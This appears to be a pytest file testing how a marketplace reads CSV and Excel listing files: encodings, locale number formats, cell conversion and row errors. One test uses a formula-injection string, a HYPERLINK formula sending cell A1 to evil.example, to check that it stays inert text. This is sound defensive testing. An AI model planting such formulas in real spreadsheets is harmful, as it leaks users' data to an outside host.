"""Reading listing files as spreadsheets save them: CSV with commas or semicolons in UTF-8 or the
Windows code pages of the hubs' languages, and Excel workbooks whose cells hold numbers, dates and
text that looks like a formula."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from kernel.errors import FieldError
from kernel.text import cell_text, excel_code_page, spreadsheet_text
from marketplace.catalog import listing_files
from marketplace.catalog.listing_files import FileError, Row
from marketplace.catalog.schemas import FileFormat
from tests.factories import spreadsheets

HEADER = [
    "sku",
    "title[pl]",
    "description[pl]",
    "default_language",
    "classification_scheme",
    "classification_code",
    "unit",
    "pack_size",
    "price_tiers",
    "stock_on_hand",
    "ships_to",
    "lead_time_days",
]


def rows_of(entries: object) -> tuple[list[Row], list[FieldError]]:
    read = list(entries)  # type: ignore[call-overload]
    return [e for e in read if isinstance(e, Row)], [e for e in read if isinstance(e, FieldError)]


def workbook(*rows: list[object], header: list[str] = HEADER) -> bytes:
    return spreadsheets.workbook(header, rows)


# --- CSV: separators and encodings ----------------------------------------------------------


def test_a_semicolon_csv_in_windows_1250_keeps_its_polish_letters_and_decimal_commas() -> None:
    text = (
        ";".join(HEADER)
        + "\r\n"
        + "ZUR-1;Żurek śląski z łąki;Zażółć gęślą jaźń;pl;HS;2104;KGM;0,5;1:12,50|10:11;40,5;PL;2\r\n"
    )

    # However the organisation is seated: the bytes themselves show it is no windows-1252 text.
    for country, languages in (("PL", ["pl"]), ("DE", ["de"])):
        [row], errors = rows_of(
            listing_files.read(FileFormat.csv, text.encode("cp1250"), country=country, languages=languages)
        )
        assert errors == []
        listing = row.listing
        assert listing.translations["pl"].title == "Żurek śląski z łąki"
        assert listing.translations["pl"].description == "Zażółć gęślą jaźń"
        assert (listing.pack_size, listing.stock_on_hand) == (Decimal("0.5"), Decimal("40.5"))
        assert [(t.min_quantity, t.unit_price) for t in listing.price_tiers] == [
            (Decimal(1), Decimal("12.50")),
            (Decimal(10), Decimal(11)),
        ]


@pytest.mark.parametrize(
    ("reader_language", "languages", "stock", "tiers"),
    [
        ("de", ["pl"], "1.500", "1:1.500,50"),  # the German reader's thousands point
        ("de-AT", ["pl"], "1500", "1:1500,50"),
        ("en", ["pl"], "1 500", "1:1 500,50"),  # an English reader: the organisation's Polish
        (None, ["cs"], "1\u00a0500", "1:1\u00a0500,50"),
        (None, ["en"], "1.500", "1:1.500,50"),  # no language at hand writes a decimal comma: German
    ],
)
def test_the_numbers_of_a_semicolon_csv_are_read_in_the_locale_that_wrote_it(
    reader_language: str | None, languages: list[str], stock: str, tiers: str
) -> None:
    text = ";".join(HEADER) + "\n" + f"MIOD-1;Miód;;pl;HS;0409;KGM;1;{tiers};{stock};PL;1\n"
    [row], errors = rows_of(
        listing_files.read(FileFormat.csv, text.encode(), languages=languages, reader_language=reader_language)
    )
    assert errors == []
    assert row.listing.stock_on_hand == Decimal(1500)
    assert row.listing.price_tiers[0].unit_price == Decimal("1500.50")


@pytest.mark.parametrize("reader_language", [None, "pl", "cs-CZ"])
def test_a_thousands_point_in_a_polish_or_czech_semicolon_csv_is_refused_not_guessed(
    reader_language: str | None,
) -> None:
    """`1.500` is 1500 to German Excel and 1.5 to English: where the file's locale groups with a
    space, the row is refused, naming the cell, whoever imports it."""
    text = ";".join(HEADER) + "\n" + "MIOD-1;Miód;;pl;HS;0409;KGM;1;1:2.500;1.500;PL;1\n"
    rows, errors = rows_of(
        listing_files.read(FileFormat.csv, text.encode(), languages=["pl", "cs"], reader_language=reader_language)
    )
    assert rows == []
    assert [(error.row, error.field) for error in errors] == [(2, "stock_on_hand")]
    assert "write 1500 or 1,5" in errors[0].message


def test_a_comma_csv_in_utf8_with_a_byte_order_mark_reads_as_before() -> None:
    text = ",".join(HEADER) + "\n" + 'KASZA-1,Kasza gryczana,"Sypka, 1 kg",pl,HS,1904,KGM,1,1:5.20,12,PL,0\n'
    [row], errors = rows_of(listing_files.read(FileFormat.csv, b"\xef\xbb\xbf" + text.encode()))
    assert errors == []
    assert row.listing.translations["pl"].description == "Sypka, 1 kg"


def test_a_decimal_comma_in_a_comma_separated_file_is_no_number() -> None:
    text = ",".join(HEADER) + "\n" + 'KASZA-1,Kasza,,pl,HS,1904,KGM,1,1:5.20,"12,5",PL,0\n'
    rows, [error] = rows_of(listing_files.read(FileFormat.csv, text.encode()))
    assert rows == []
    assert (error.row, error.field) == (2, "stock_on_hand")


@pytest.mark.parametrize(
    ("text", "encoding", "country", "languages"),
    [
        ("Čaj z přírody, ťuk", "cp1250", "CZ", ["cs"]),  # Czech letters read as 1252 are è, ø ... or undefined
        ("Pfefferminztee: süß, würzig, Größe 100 g", "cp1252", "DE", ["de"]),
        ("Crème brûlée für Gäste", "cp1252", "DE", ["de", "fr"]),  # French read as 1250 would be "Crčme"
        ("Herbata miętowa, ósma", "cp1250", "DE", ["de", "pl"]),  # ę read as 1252 is ê, foreign to both
        ("Mátový čaj", "cp1250", "PL", ["pl", "cs"]),
        ("„Kräuter“ – 5 € · 20 °C", "cp1252", "PL", ["pl"]),  # the typography both share
    ],
)
def test_text_in_a_windows_code_page_is_read_in_the_one_it_was_written_in(
    text: str, encoding: str, country: str, languages: list[str]
) -> None:
    assert spreadsheet_text(text.encode(encoding), country=country, languages=languages) == text


def test_the_code_page_follows_where_the_organisation_is_seated_then_its_first_language() -> None:
    assert excel_code_page("PL", ["de"]) == "cp1250"
    assert excel_code_page("DE", ["cs", "de"]) == "cp1250"
    assert excel_code_page("DE", ["de", "pl"]) == "cp1252"
    assert excel_code_page("AT", []) == "cp1252"


def test_bytes_of_no_code_page_and_old_excel_workbooks_are_refused_whole() -> None:
    with pytest.raises(FileError, match="UTF-8, windows-1250 or windows-1252"):
        listing_files.read(FileFormat.csv, ",".join(HEADER).encode() + b"\n\x81\x90")
    with pytest.raises(FileError, match=r"\.xls"):
        listing_files.read(FileFormat.csv, bytes.fromhex("d0cf11e0a1b11ae1") + bytes(100))


# --- XLSX -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (2.4, "2.4"),
        (12, "12"),
        (12.0, "12"),
        (0.1 + 0.2, "0.3"),  # what a formula computed, shown as Excel shows it
        (1e-7, "0.0000001"),
        (1e20, "100000000000000000000"),
        (Decimal("4.50"), "4.50"),
        (True, "true"),
        (None, ""),
        (dt.datetime(2026, 5, 1), "2026-05-01"),  # noqa: DTZ001 - a spreadsheet's dates have no zone
        (dt.date(2026, 5, 1), "2026-05-01"),
        ("0409.00", "0409.00"),
    ],
)
def test_a_cell_becomes_the_text_a_csv_would_carry(value: object, text: str) -> None:
    assert cell_text(value) == text


def test_numeric_cells_of_a_workbook_are_read_as_the_numbers_they_show() -> None:
    body = workbook(
        ["MIOD-1", "Miód lipowy", None, "pl", "HS", 409, "KGM", 0.5, "0.5:48.00|20:44", 2.4, "PL-02|DE-SN", 3.0],
        ["MIOD-2", "Miód gryczany", "", "pl", "HS", "0409.00", "KGM", 1, "1:52", 0.1 + 0.2, "PL", 12],
    )
    [first, second], errors = rows_of(listing_files.read(FileFormat.xlsx, body))
    assert errors == []
    assert (first.number, second.number) == (2, 3)  # the rows as the spreadsheet numbers them
    assert first.listing.stock_on_hand == Decimal("2.4")
    assert str(first.listing.stock_on_hand) == "2.4"  # never 2.4000000000000000355...
    assert first.listing.pack_size == Decimal("0.5")
    assert first.listing.lead_time_days == 3
    assert first.listing.classification.code == "409"
    assert first.listing.ships_to == ["PL-02", "DE-SN"]
    assert str(second.listing.stock_on_hand) == "0.3"
    assert second.listing.lead_time_days == 12
    assert second.listing.classification.code == "0409.00"


def test_a_text_cell_that_looks_like_a_formula_is_read_as_text_and_written_back_as_text() -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Zioła")'
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(["ZIOLA-1", formula, "-10% na start", "pl", "HS", "1211.90", "KGM", 1, "1:5", 1, "PL", 0])
    sheet["B2"].data_type = "s"  # typed as text (Excel's leading apostrophe), not as a formula
    sheet["C2"].data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)

    [row], errors = rows_of(listing_files.read(FileFormat.xlsx, buffer.getvalue()))
    assert errors == []
    assert row.listing.translations["pl"].title == formula
    assert row.listing.translations["pl"].description == "-10% na start"

    written = listing_files.write_xlsx([row.listing], listing_files.csv_columns(["pl"]))
    again = openpyxl.load_workbook(io.BytesIO(written)).worksheets[0]
    header = [cell.value for cell in again[1]]
    title = again.cell(row=2, column=header.index("title[pl]") + 1)
    assert (title.value, title.data_type) == (formula, "s")  # a text cell, no formula to run
    [back], _ = rows_of(listing_files.read(FileFormat.xlsx, written))
    assert back.listing == row.listing


def test_a_formula_counts_with_the_value_the_spreadsheet_last_computed() -> None:
    # openpyxl saves formulas without a computed value, as a spreadsheet that never calculated would.
    body = workbook(["X-1", "Kasza", None, "pl", "HS", "1904", "KGM", 1, "1:5", "=2*3", "PL", 0])
    rows, [error] = rows_of(listing_files.read(FileFormat.xlsx, body))
    assert rows == []
    assert (error.row, error.field) == (2, "stock_on_hand")


def test_each_bad_row_of_a_workbook_is_reported_with_its_row_and_column() -> None:
    good = ["X-1", "Kasza", None, "pl", "HS", "1904", "KGM", 1, "1:5", 10, "PL", 0]
    body = workbook(
        good,
        [],  # an empty row keeps its number
        ["X-2", None, None, "pl", "HS", "1904", "KGM", 1, "1:5", 10, "PL", 0],
        ["X-3", "Kasza", None, "pl", "HS", "1904", "KGM", 1, "1:-5", 10, "PL", 0],
        [*good[:-1], 0, "beyond the header"],
    )
    rows, errors = rows_of(listing_files.read(FileFormat.xlsx, body))
    assert [row.number for row in rows] == [2, 5]  # a negative price is the service's to refuse
    assert [(e.row, e.field) for e in errors] == [(4, "title[pl]"), (6, "$")]
    assert listing_files.cell_problem(errors[0]) == (None, "cannot be empty")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"PK\x03\x04 no zip at all", "not an Excel workbook"),
        (b"sku,title[pl]\n", "not an Excel workbook"),
        (workbook(header=[]), "empty"),
        (workbook(["X-1", "Kasza"], header=[]), "the first row names no columns"),
        (workbook(header=[*HEADER, "colour"]), "unknown column"),
        (workbook(header=[c for c in HEADER if c != "unit"]), "unit"),
    ],
)
def test_a_workbook_that_cannot_be_read_is_refused_whole(body: bytes, message: str) -> None:
    with pytest.raises(FileError, match=message):
        listing_files.read(FileFormat.xlsx, body)


@pytest.mark.parametrize(
    ("languages", "expected"), [(["pl", "de"], ["pl", "de"]), (["cs"], ["cs"]), (["fr"], ["fr", "en"])]
)
def test_the_template_row_reads_back_as_a_listing_in_the_organisations_languages(
    languages: list[str], expected: list[str]
) -> None:
    chosen = listing_files.template_languages(languages)
    assert chosen == expected
    example = listing_files.example_listing(chosen, "CZ")
    columns = listing_files.csv_columns(chosen)
    for file_format, body in (
        (FileFormat.xlsx, listing_files.write_xlsx([example], columns, help_rows=[("sku", "Your code")])),
        (FileFormat.csv, listing_files.write_csv_rows([example], columns, header=True)),
    ):
        [row], errors = rows_of(listing_files.read(file_format, body))
        assert errors == []
        assert row.listing == example
        assert example.default_language in example.translations
